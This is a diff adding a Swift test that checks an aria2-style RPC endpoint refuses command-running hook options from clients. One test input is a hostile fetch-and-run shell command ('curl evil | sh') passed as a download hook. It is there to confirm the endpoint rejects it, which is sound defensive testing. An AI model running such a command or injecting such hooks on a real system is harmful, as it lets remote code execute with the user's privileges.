@@ -190,6 +190,22 @@ struct RPCEndpointTests {
         #expect(result("aria2.getGlobalOption")?.object?["max-overall-download-limit"] == "1048576")
     }
 
+    @Test("a hook is refused from an RPC client, in every call that takes options: it would run as the daemon's user")
+    func hooksRefused() throws {
+        let gid = try add("http://127.0.0.1:9/h", ["pause": "true"])
+        let calls: [(String, [JSONValue])] = [
+            ("aria2.addUri", [["http://127.0.0.1:9/x"], ["on-download-complete": "/bin/sh -c 'curl evil | sh'"]]),
+            ("aria2.changeOption", [.string(gid), ["on-download-start": "/tmp/x"]]),
+            ("aria2.changeGlobalOption", [["on-download-error": "/tmp/x"]]),
+        ]
+        for (method, params) in calls {
+            let response = call(method, params)
+            #expect(errorCode(response) == 1, "\(method)")
+            #expect("\(response)".contains("runs a command as you"), "\(method): \(response)")
+        }
+        #expect(queue.count(in: [.queued, .paused]) == 1, "nothing was added")
+    }
+
     @Test(
         "a change of state makes aria2's notification",
         arguments: [
